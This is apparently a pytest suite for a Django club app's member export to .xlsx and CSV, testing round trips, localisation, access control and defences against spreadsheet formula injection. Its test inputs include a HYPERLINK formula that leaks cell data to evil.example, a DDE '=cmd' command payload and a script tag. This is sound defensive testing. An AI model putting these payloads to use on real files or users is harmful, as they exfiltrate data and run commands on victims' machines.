"""Member export to .xlsx and CSV, read back with openpyxl and csv, compared with the database."""

import codecs
import csv
import io
import zipfile

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import translation

from clubs import exports, imports
from clubs.models import Member
from common.csvfile import guard
from common.xlsxfile import MAX_WIDTH, MIN_WIDTH
from tests import factories

TITLES_EN = ["Name", "Membership number", "E-mail", "Phone", "Active", "Guest"]
TRICKY = [
    "Yvonne 't Hart",
    "José Müller-Lüdenscheidt",
    "<script>alert('x')</script>",
    "Anne & Piet <b>de Wit</b>",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+31 6 12345678",
    "-Min",
    "@SUM(A1:A9)",
    "Jan;=cmd|' /C calc'!A0",  # a formula after the separator Dutch Excel splits on
    "Piet,+SUM(A1)",
    "'=al met apostrof",
]


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


@pytest.fixture
def members(club):
    factories.member(club, "Jan Jansen", membership_number="0012", email="jan@example.nl")
    factories.member(club, "Marie Bakker", phone="06-12345678", is_active=False)
    factories.member(club, "Gerrit Gast", is_guest=True)
    for name in TRICKY:
        factories.member(club, name)
    return list(Member.objects.filter(club=club))


def database_rows(members):
    return [
        [m.name, m.membership_number, m.email, m.phone, m.is_active, m.is_guest] for m in members
    ]


def xlsx_text(value):
    """A text as the sheet holds it: an apostrophe before = + - @ gets a second one,
    the one the importers drop again (the leading = + - @ itself is a quote-prefixed
    text cell, not a character)."""
    return "'" + value if value.startswith("'") and guard(value[1:]) != value[1:] else value


def xlsx_rows(members):
    """As the sheet holds them: an empty text is an empty cell, true/false the words yes/no."""
    return [
        [
            ("yes" if value else "no")
            if isinstance(value, bool)
            else (xlsx_text(value) if isinstance(value, str) else value) or None
            for value in row
        ]
        for row in database_rows(members)
    ]


def read_xlsx(data):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return workbook.active


def read_csv(data, delimiter=","):
    """The rows of a CSV file; ``,`` is the English dialect (the tests here are in English)."""
    assert data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# ---------------------------------------------------------------- .xlsx


def test_xlsx_reads_back_as_the_database(members):
    sheet = read_xlsx(exports.members_xlsx(members))
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == TITLES_EN
    assert rows[1:] == xlsx_rows(members)


def test_xlsx_values_are_real_values(members):
    sheet = read_xlsx(exports.members_xlsx(members))
    jan = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "Jan Jansen")
    assert jan[1].value == "0012" and jan[1].data_type == "s"  # the zeros stay
    assert jan[1].number_format == "@"  # formatted as text: an edit keeps its zeros
    assert sheet.column_dimensions["B"].number_format == "@"
    assert sheet.column_dimensions["D"].number_format == "@"
    # Words, not true/false cells, which LibreOffice saves as =TRUE() formulas.
    assert jan[4].value == "yes" and jan[4].data_type == "s"
    marie = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "Marie Bakker")
    assert (marie[3].value, marie[3].number_format) == ("06-12345678", "@")
    assert marie[4].value == "no"


def test_xlsx_header_is_bold_and_frozen_with_sensible_widths(members):
    sheet = read_xlsx(exports.members_xlsx(members))
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert not any(cell.font.bold for cell in sheet[2])
    assert sheet.auto_filter.ref == f"A1:F{len(members) + 1}"
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEF"}
    assert all(MIN_WIDTH <= width <= MAX_WIDTH for width in widths.values())
    longest_name = max(len(m.name) for m in members)
    assert widths["A"] == min(longest_name + 2, MAX_WIDTH)


def test_xlsx_formula_like_names_are_text_not_formulas(members):
    data = exports.members_xlsx(members)
    sheet = read_xlsx(data)
    cells = {cell.value: cell for cell in sheet["A"][1:]}
    for name in TRICKY:
        cell = cells[xlsx_text(name)]
        assert cell.value == xlsx_text(name)
        assert cell.data_type == "s", name
        if name[0] in "=+-@":
            assert cell.quotePrefix, name
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    # With formulas evaluated away the text is still there: nothing was computed.
    computed = openpyxl.load_workbook(io.BytesIO(data), data_only=True).active
    assert TRICKY[4] in [cell.value for cell in computed["A"]]


def test_xlsx_names_round_trip_exactly(members):
    sheet = read_xlsx(exports.members_xlsx(members))
    assert [cell.value for cell in sheet["A"][1:]] == [xlsx_text(m.name) for m in members]


def test_xlsx_of_no_members_has_just_the_header():
    sheet = read_xlsx(exports.members_xlsx([]))
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [TITLES_EN]
    assert sheet.freeze_panes == "A2"


def test_xlsx_titles_and_yes_no_follow_the_language(members):
    with translation.override("nl"):
        data = exports.members_xlsx(members)
    sheet = read_xlsx(data)
    titles = [cell.value for cell in sheet[1]]
    assert titles[0] == "Naam" and titles[1] == "Lidnummer"
    assert {cell.value for cell in sheet["E"][1:]} | {cell.value for cell in sheet["F"][1:]} == {
        "ja",
        "nee",
    }


# ---------------------------------------------------------------- CSV


def test_csv_reads_back_as_the_database(members):
    rows = read_csv(exports.members_csv(members))
    assert rows[0] == TITLES_EN
    expected = [
        [
            guard(value)  # tested in tests/common/test_csvfile.py
            if isinstance(value, str)
            else ("yes" if value else "no")
            for value in row
        ]
        for row in database_rows(members)
    ]
    assert rows[1:] == expected


def test_csv_guards_formula_like_values_with_an_apostrophe(members):
    rows = read_csv(exports.members_csv(members))
    names = [row[0] for row in rows[1:]]
    assert "'" + TRICKY[4] in names
    assert "'+31 6 12345678" in names and "'-Min" in names and "'@SUM(A1:A9)" in names
    assert "Yvonne 't Hart" in names  # an apostrophe inside a name is left alone
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


@pytest.mark.parametrize("delimiter", [";", ","])
def test_csv_read_with_either_separator_has_no_cell_a_spreadsheet_runs(members, delimiter):
    """``Jan;=cmd|' /C calc'!A0`` landed unquoted in a comma-separated file, which
    Dutch Excel splits on ``;`` into a cell ``=cmd...``. A field holding either
    separator is quoted now, and one with a formula after a separator is guarded."""
    text = exports.members_csv(members).decode("utf-8-sig")
    cells = [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "\"'Jan;=cmd|' /C calc'!A0\"" in text
    assert '"\'Piet,+SUM(A1)"' in text


def test_csv_keeps_accents_and_html_characters(members):
    data = exports.members_csv(members)
    text = data.decode("utf-8-sig")
    assert "José Müller-Lüdenscheidt" in text
    assert "<script>alert('x')</script>" in text
    assert "Anne & Piet <b>de Wit</b>" in text


def test_csv_yes_and_no_follow_the_language(members):
    with translation.override("nl"):
        rows = read_csv(exports.members_csv(members), ";")
    assert rows[0][0] == "Naam"
    assert {row[4] for row in rows[1:]} == {"ja", "nee"}


# ---------------------------------------------------------------- round trips


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@pytest.mark.parametrize("language", ["en", "nl"])
def test_an_export_imports_back_as_already_members(club, members, kind, language):
    with translation.override(language):
        data = getattr(exports, f"members_{kind}")(members)
    preview = imports.member_import_preview(club=club, data=data, filename=f"leden.{kind}")
    assert preview.ok, preview.problems
    assert preview.warnings == []
    assert preview.to_add == []
    assert len(preview.skipped) == len(members)


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_an_export_imports_into_another_club_exactly(club, other_club, members, kind):
    admin = factories.role(other_club, "admin")
    data = getattr(exports, f"members_{kind}")(members)
    preview = imports.member_import_preview(club=other_club, data=data, filename=f"l.{kind}")
    assert preview.can_apply, preview.problems
    imports.member_import_apply(club=other_club, rows=preview.rows, by=admin)
    fields = ["name", "membership_number", "email", "phone", "is_active", "is_guest"]
    copied = list(Member.objects.filter(club=other_club).values_list(*fields))
    assert copied == list(Member.objects.filter(club=club).values_list(*fields))


# ---------------------------------------------------------------- the pages


def export_url(club, kind):
    return reverse(f"clubs:member-export-{kind}", kwargs={"club": club.slug})


@pytest.fixture
def director_client(client, club):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(factories.role(club, "director"))
    return client


def test_xlsx_download(director_client, club, members, django_assert_num_queries):
    with django_assert_num_queries(5):  # session, user, club, role, members
        response = director_client.get(export_url(club, "xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f'filename="{club.slug}-members-' in disposition and disposition.endswith('.xlsx"')
    # Names and phone numbers: no shared cache keeps the file, the browser stores none.
    assert {"private", "no-cache", "no-store"} <= set(response["Cache-Control"].split(", "))
    sheet = read_xlsx(response.getvalue())
    rows = [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert rows == xlsx_rows(Member.objects.filter(club=club))


def test_csv_download(director_client, club, members, django_assert_num_queries):
    with django_assert_num_queries(5):
        response = director_client.get(export_url(club, "csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith('.csv"')
    rows = read_csv(response.getvalue())
    assert [row[0] for row in rows[1:]] == [guard(m.name) for m in Member.objects.filter(club=club)]


def test_download_holds_only_this_clubs_members(director_client, club, other_club, members):
    factories.member(other_club, "Van Een Andere Club")
    sheet = read_xlsx(director_client.get(export_url(club, "xlsx")).getvalue())
    assert "Van Een Andere Club" not in [cell.value for cell in sheet["A"]]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@pytest.mark.parametrize("role", ["member", "scorer"])
def test_below_director_gets_403(client, club, kind, role):
    client.force_login(factories.role(club, role))
    assert client.get(export_url(club, kind)).status_code == 403


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_another_clubs_director_gets_404(client, club, other_club, kind):
    client.force_login(factories.role(other_club, "director"))
    assert client.get(export_url(club, kind)).status_code == 404


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_anonymous_visitors_are_sent_to_log_in(client, club, kind):
    response = client.get(export_url(club, kind))
    assert response.status_code == 302 and reverse("login") in response.url
